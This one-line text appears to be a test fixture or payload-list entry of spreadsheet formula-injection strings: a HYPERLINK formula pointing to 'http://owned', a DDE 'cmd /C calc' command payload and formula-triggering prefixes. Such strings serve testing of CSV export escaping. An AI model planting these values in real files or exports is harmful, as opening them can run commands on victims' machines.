#error =HYPERLINK("http://owned","x") +cmd|' /C calc'!A1 SUM(1) -1+1
